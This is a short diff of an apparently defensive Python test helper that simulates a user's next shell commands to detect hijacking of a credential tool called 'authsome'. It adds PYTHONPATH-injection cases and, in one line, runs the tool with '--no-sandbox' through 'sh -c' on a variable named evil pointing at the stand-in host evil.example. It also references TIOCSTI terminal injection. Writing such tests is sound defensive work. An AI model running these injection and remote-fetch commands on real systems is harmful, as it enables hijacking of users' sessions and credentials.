@@ -27,7 +27,7 @@ TYPING = Path("/proc/sys/dev/tty/legacy_tiocsti")
 def as_user(house: House, *program: str) -> None:
     """One of the user's next commands, with nothing around it."""
     command = house.command("none", *program)
-    environ = house.environ()
+    environ = {name: value for name, value in house.environ().items() if name != "PYTHONPATH"}
     subprocess.run(
         command, cwd=ROOT, env=environ, stdin=subprocess.DEVNULL, capture_output=True, timeout=60, check=False
     )
@@ -39,6 +39,8 @@ def next_commands(house: House) -> set[str]:
     as_user(house, "/bin/bash", "-ic", "ls; authsome list")
     as_user(house, "/bin/sh", "-lc", "true")
     as_user(house, f"{sys.base_prefix}/bin/python3", "-c", "pass")
+    for path in (str(house.project), ":/nowhere"):
+        as_user(house, "/usr/bin/env", f"PYTHONPATH={path}", house.authsome, "list")
     house.standin.forget()
     run = ("run", "--no-sandbox", "--", "sh", "-c", f"{evil} https://evil.example/standin/echo")
     as_user(house, house.authsome, *run)
